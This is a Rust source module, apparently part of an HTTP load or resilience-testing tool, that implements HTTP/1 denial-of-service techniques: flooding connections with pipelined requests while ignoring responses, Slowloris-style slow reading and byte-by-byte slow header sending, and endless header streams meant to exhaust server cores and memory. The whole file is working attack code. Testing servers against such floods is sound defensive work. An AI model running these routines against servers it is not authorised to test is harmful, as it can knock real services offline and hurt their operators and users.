//! Heads of HTTP/1: many small ones, slow ones, endless ones; and answers that nobody wants.

use std::io;
use std::time::Duration;

use tokio::time::sleep;

use super::streams::asked;
use crate::attacker::{Field, Line, Way};

/// The smallest request that there is.
const TINY: &[u8] = b"GET / HTTP/1.1\r\nHost:a\r\n\r\n";
const LARGE: &[u8] = b"GET /large HTTP/1.1\r\nHost: a\r\n\r\n";

/// Far more at once than can be answered at once. The first connection writes for as long as it is read, without a pause:
/// one is enough to take a core, where nothing bounds what is read ahead. The others keep a pace.
async fn pipelined(line: &mut Line, field: &Field, request: &[u8]) -> io::Result<()> {
    let count = (field.orders.rate / 16).clamp(1, 8192);
    let batch = request.repeat(count as usize);
    loop {
        if line.number > 0 {
            field.pace(count).await;
        }
        field.tally.begin(u64::from(count));
        line.write(&batch).await?;
        field.tally.end(u64::from(count));
        line.hear_now()?;
    }
}

pub async fn pipelining(line: &mut Line, field: &Field) -> io::Result<()> {
    pipelined(line, field, TINY).await
}

pub async fn unread_answers(line: &mut Line, field: &Field) -> io::Result<()> {
    pipelined(line, field, LARGE).await
}

pub async fn slow_reading(line: &mut Line, field: &Field) -> io::Result<()> {
    const REQUESTS: u32 = 50;
    match field.orders.way {
        Way::Plain | Way::Tls => {
            for _ in 0..REQUESTS {
                field.pace(1).await;
                field.tally.begin(1);
                line.write(LARGE).await?;
                field.tally.end(1);
            }
        }
        Way::H2c | Way::H2 => asked(line, field, REQUESTS).await?,
    }
    loop {
        line.sip().await?;
        sleep(Duration::from_secs(1)).await;
    }
}

pub async fn slow_sending(line: &mut Line, field: &Field) -> io::Result<()> {
    field.tally.begin(1);
    for byte in b"GET /slow HTTP/1.1\r\nHost: a\r\nX-Slow: ".iter().chain(&[b'x'; 64]) {
        line.write(&[*byte]).await?;
        line.hear_within(Duration::from_secs(1)).await?;
    }
    Ok(())
}

pub async fn endless(line: &mut Line, field: &Field) -> io::Result<()> {
    field.tally.begin(1);
    line.write(b"GET /endless HTTP/1.1\r\nHost: a\r\n").await?;
    let more = format!("X-More: {}\r\n", "m".repeat(80));
    loop {
        field.pace(1).await;
        line.write(more.as_bytes()).await?;
        line.hear_now()?;
    }
}
